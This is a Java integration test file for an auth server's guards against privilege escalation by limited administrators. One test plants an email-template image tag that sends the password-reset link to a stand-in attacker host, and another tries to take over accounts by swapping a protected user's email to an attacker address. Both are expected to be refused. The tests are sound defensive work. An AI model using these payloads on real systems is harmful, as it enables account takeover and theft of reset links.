/* SPDX-License-Identifier: Apache-2.0 */
package org.lumoauth.itests.http.signin;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.time.Instant;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.lumoauth.itests.http.fixture.DelegationScenario;
import org.lumoauth.itests.http.fixture.MailOutboxReader;
import org.lumoauth.itests.http.support.ApiClient;
import org.lumoauth.itests.http.support.DefaultServerExtension;
import org.lumoauth.itests.http.support.TestApplication;
import org.lumoauth.itests.http.support.TestBrowser;
import org.lumoauth.itests.http.support.TestPerson;
import org.lumoauth.itests.http.support.TestServer;
import org.lumoauth.itests.http.support.TestTenant;

/** Administrators with limited permissions cannot extend their own permissions by any operation. */
@ExtendWith(DefaultServerExtension.class)
class PrivilegeEscalationIT {
  private TestServer server;
  private TestTenant tenant;

  @BeforeEach
  void start(TestServer shared) throws IOException {
    server = shared;
    tenant = TestTenant.create(server);
  }

  @Test
  void hidesMailedLinksFromMessageTemplateAuthors() throws Exception {
    TestPerson boss = administrator();
    String html =
        "<p><a href=\"${link}\">Open</a></p><img src=\"https://evil.example/b.gif?x=${link}\">";

    ApiClient.Answer refused =
        key("admin:settings").put("/admin/email-templates/password-reset", html(html)).expect(422);

    assertEquals("body_html", refused.body().at("/details/field").asText());
    new TestBrowser(server.base())
        .open("/t/" + tenant.slug() + "/forgot-password")
        .submit("identifier", boss.email());
    assertFalse(MailOutboxReader.awaitMail(server, boss.email()).contains("evil.example"));
  }

  @Test
  void refusesTakeoverOfMorePrivilegedUser() {
    TestPerson ops = holder("Operations", "settings.write", "users.write");
    Map<String, Object> password = Map.of("password", "another few words 77");

    key("admin:users").post("/admin/users/" + ops.id() + "/password", password).expect(403);
    key("admin:users", "admin:settings")
        .post("/admin/users/" + ops.id() + "/password", password)
        .expect(200);
    tenant.admin().post("/admin/users/" + administrator().id() + "/password", password).expect(200);
  }

  @Test
  void refusesTakeoverOfApproverByNonApprover() {
    TestPerson named = TestPerson.create(server, tenant);
    TestPerson deputy = TestPerson.create(server, tenant);
    TestPerson member = TestPerson.create(server, tenant);
    TestPerson owner = TestPerson.create(server, tenant);
    TestPerson other = TestPerson.create(server, tenant);
    ApiClient admin = tenant.admin();
    admin.post("/admin/groups", Map.of("name", "Treasury")).expect(201);
    admin
        .post("/admin/groups/treasury/members", Map.of("userIds", List.of(member.id())))
        .expect(200);
    admin.post("/admin/agents", Map.of("name", "Buyer", "ownerId", owner.id())).expect(201);
    admin.put("/admin/approvals/rules", approvedBy(named)).expect(200);
    TestApplication app =
        TestApplication.register(
            tenant, Map.of("allowedScopes", List.of("openid", "approvals.write")));
    named.signIn();
    bearer(app, named, "openid approvals.write")
        .put(
            "/approvals/deputy",
            Map.of("user", deputy.email(), "until", Instant.now().plusSeconds(86_400).toString()))
        .expect(200);

    Map<String, Object> password = Map.of("password", "another few words 77");
    ApiClient users = key("admin:users");
    for (TestPerson who : List.of(named, deputy, member, owner)) {
      String path = "/admin/users/" + who.id();
      users.post(path + "/password", password).expect(403);
      users.patch(path, Map.of("email", "mine@evil.example")).expect(403);
      users
          .post(
              path + "/identities",
              Map.of("type", "social", "provider", "google", "subject", "mine"))
          .expect(403);
    }
    users.post("/admin/users/" + other.id() + "/password", password).expect(200);
    admin.post("/admin/users/" + named.id() + "/password", password).expect(200);
  }

  private static Map<String, Object> approvedBy(TestPerson named) {
    return Map.of(
        "rules",
        List.of(
            Map.of(
                "approvers",
                List.of(
                    Map.of("kind", "user", "value", named.id()),
                    Map.of("kind", "group", "value", "treasury"),
                    Map.of("kind", "source", "value", "owner")))));
  }

  @Test
  void refusesImpersonationSettingToClientAdministrator() {
    Map<String, Object> quiet =
        Map.of("name", "Quiet", "metadata", Map.of("token_exchange_impersonation", true));
    String id =
        tenant
            .admin()
            .post("/admin/clients", Map.of("name", "Plain"))
            .expect(201)
            .data()
            .path("clientId")
            .asText();

    ApiClient clients = key("admin:clients");
    clients.post("/admin/clients", quiet).expect(403);
    clients.patch("/admin/clients/" + id, quiet).expect(403);
    clients.patch("/admin/oauth-clients/" + id, quiet).expect(403);
    tenant.admin().patch("/admin/clients/" + id, quiet).expect(200);
    clients.post("/admin/clients/" + id + "/rotate-secret", Map.of()).expect(403);
  }

  @Test
  void requiresScopeToNameADeputy() {
    TestApplication app =
        TestApplication.register(
            tenant, Map.of("allowedScopes", List.of("openid", "approvals.write")));
    TestPerson boss = administrator().signIn();
    TestPerson eve = TestPerson.create(server, tenant);
    Map<String, Object> deputy =
        Map.of("user", eve.email(), "until", Instant.now().plusSeconds(86_400).toString());

    bearer(app, boss, "openid").put("/approvals/deputy", deputy).expect(403);
    bearer(app, boss, "openid approvals.write").put("/approvals/deputy", deputy).expect(200);
  }

  @Test
  void refusesTenantTextForModuleScopes() {
    for (String scope : List.of("delegations.write", "connections.write", "approvals.write")) {
      tenant
          .admin()
          .post(
              "/admin/scopes",
              Map.of("name", scope, "description", "See the colour", "isDefault", true))
          .expect(409);
    }
    TestApplication app =
        TestApplication.register(
            tenant, Map.of("allowedScopes", List.of("openid", "approvals.write")));

    TestPerson ada = TestPerson.create(server, tenant).signIn();
    ada.open(app.authorize(app.request(Map.of("scope", "openid approvals.write"))));

    String page = ada.browser().text();
    assertTrue(page.contains("Let another user approve requests in your place"), page);
  }

  @Test
  void refusesRenamingOfAssignedPermission() {
    for (String slug : List.of("docs.read", "docs.list")) {
      tenant.admin().post("/admin/permissions", Map.of("slug", slug, "name", slug)).expect(201);
    }
    TestPerson reader = holder("Reader", "docs.read");
    Map<String, Object> other = Map.of("slug", "payments.approve");

    ApiClient keeper = key("admin:permissions");
    keeper.patch("/admin/permissions/docs.read", other).expect(403);
    keeper.patch("/admin/permissions/docs.list", other).expect(200);
    assertFalse(
        tenant
            .admin()
            .post(
                "/authz/check",
                Map.of(
                    "subject",
                    Map.of("type", "user", "id", reader.id()),
                    "permission",
                    "payments.approve"))
            .expect(200)
            .body()
            .path("allowed")
            .asBoolean());
    tenant.admin().patch("/admin/permissions/docs.read", Map.of("slug", "papers.read")).expect(200);
  }

  @Test
  void refusesChangesOfMorePrivilegedKeyOrAgent() {
    String mighty =
        tenant
            .admin()
            .post("/admin/api-keys", Map.of("name", "All", "scopes", List.of("admin")))
            .expect(201)
            .data()
            .path("id")
            .asText();
    ApiClient keys = key("admin:apikeys");
    keys.patch("/admin/api-keys/" + mighty, Map.of("name", "Mine")).expect(403);
    keys.delete("/admin/api-keys/" + mighty).expect(403);
    tenant.admin().delete("/admin/api-keys/" + mighty).expect(200);

    String agent = tenant.agent("Strong", List.of("users.write"), List.of()).id();
    ApiClient agents = key("admin:agents");
    agents.patch("/admin/agents/" + agent, Map.of("name", "Mine")).expect(403);
    agents.post("/admin/agents/" + agent + "/retire", Map.of()).expect(403);
    agents.delete("/admin/agents/" + agent).expect(403);
    tenant.admin().delete("/admin/agents/" + agent).expect(200);
  }

  @Test
  void refusesExtensionBeyondTheDisplayedDelegationConsent() {
    DelegationScenario ada = DelegationScenario.signIn(server, tenant);
    TestTenant.Agent agent =
        ada.agentWithConsent(
            DelegationScenario.READ, DelegationScenario.WRITE, DelegationScenario.ON_BEHALF);

    ada.ask(agent, DelegationScenario.WRITE);

    String page = ada.person.browser().text();
    assertTrue(page.contains(DelegationScenario.READ), page);
    assertEquals(
        DelegationScenario.READ + " " + DelegationScenario.WRITE,
        ada.person.browser().hidden().get("scope"));
    String ends = expiresAt(agent);
    ada.bearer(ada.token())
        .post(
            "/me/delegations",
            Map.of("agentId", agent.id(), "scopes", List.of(DelegationScenario.WRITE)))
        .expect(201);
    assertEquals(ends, expiresAt(agent));
  }

  private String expiresAt(TestTenant.Agent agent) {
    return tenant
        .admin()
        .get("/admin/delegations?agentId=" + agent.id())
        .expect(200)
        .data()
        .at("/0/expiresAt")
        .asText();
  }

  private ApiClient bearer(TestApplication app, TestPerson person, String scope) {
    String code = person.allow(app, Map.of("scope", scope)).get("code");
    return tenant
        .admin()
        .with(
            "Authorization",
            "Bearer " + app.redeem(code).expect(200).body().path("access_token").asText());
  }

  private static Map<String, Object> html(String html) {
    return Map.of("body_html", html);
  }

  /** Somebody who may do everything here. */
  private TestPerson administrator() {
    TestPerson boss = TestPerson.create(server, tenant);
    tenant
        .admin()
        .post("/admin/users/" + boss.id() + "/roles", Map.of("roles", List.of("tenant_admin")))
        .expect(200);
    return boss;
  }

  /** Somebody with a role of these permissions. */
  private TestPerson holder(String role, String... permissions) {
    TestPerson person = TestPerson.create(server, tenant);
    tenant
        .admin()
        .post("/admin/roles", Map.of("name", role, "permissions", List.of(permissions)))
        .expect(201);
    tenant
        .admin()
        .post(
            "/admin/roles/" + role.toLowerCase(Locale.ROOT) + "/users",
            Map.of("userId", person.id()))
        .expect(200);
    return person;
  }

  /** The API with a key of these scopes. */
  private ApiClient key(String... scopes) {
    return tenant
        .admin()
        .with(
            "X-API-Key",
            tenant
                .admin()
                .post("/admin/api-keys", Map.of("name", "Part", "scopes", List.of(scopes)))
                .expect(201)
                .data()
                .path("key")
                .asText());
  }
}
